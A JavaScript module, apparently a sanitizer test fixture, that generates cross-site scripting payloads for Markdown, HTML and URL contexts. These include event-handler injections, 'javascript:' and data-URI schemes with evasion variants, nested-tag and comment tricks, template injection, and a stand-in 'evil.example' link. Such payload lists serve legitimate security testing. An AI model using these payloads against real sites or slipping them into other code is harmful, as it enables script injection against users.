// Texts that have run in pages of others, in the shapes that Markdown, HTML and addresses give them.

const run = 'pwned()';
const tags = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'video', 'audio', 'body', 'input', 'details', 'marquee', 'math', 'form', 'style', 'link', 'base', 'meta', 'template', 'a'];
const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onmouseover', 'onbegin', 'onpointerenter'];
const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\nscript:', 'java\tscript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'blob:', 'file:///', 'filesystem:', 'view-source:', 'about:', 'intent:', '//evil.example/'];

export const payloads = [
  ...tags.map((tag) => `<${tag} src=x href="javascript:${run}" onerror=${run} onload=${run} autofocus onfocus=${run}>${run}</${tag}>`),
  ...handlers.map((handler) => `<svg ${handler}=${run}><animate ${handler}=${run} attributeName=x dur=1s>`),
  ...handlers.map((handler) => `"><img src=x ${handler}="${run}">`),
  ...schemes.map((scheme) => `[press me](${scheme}${run})`),
  ...schemes.map((scheme) => `![a picture](${scheme}${run})`),
  ...schemes.map((scheme) => `<${scheme}${run}>`),
  `[a]: javascript:${run}\n\n[a]`,
  `[x](https://example.org "onmouseover=${run}")`,
  `[x](https://example.org/"onmouseover=${run}//)`,
  `\`\`\`<img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`<img src=x onerror=${run}>\``,
  `| <img src=x onerror=${run}> | b |\n|---|---|\n| <script>${run}</script> | d |`,
  `- [ ] <img src=x onerror=${run}>`,
  `> <img src=x onerror=${run}>`,
  `# <img src=x onerror=${run}>`,
  `**<img src=x onerror=${run}>**`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\<img src=x onerror=${run}\\>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<img/src=x/onerror=${run}>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `';${run}//`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `@<img src=x onerror=${run}>`,
  `#<img src=x onerror=${run}>`,
  `:<img src=x onerror=${run}>:`,
  `https://example.org/<script>${run}</script>`,
  `mailto:a@example.org?body=<script>${run}</script>`,
];
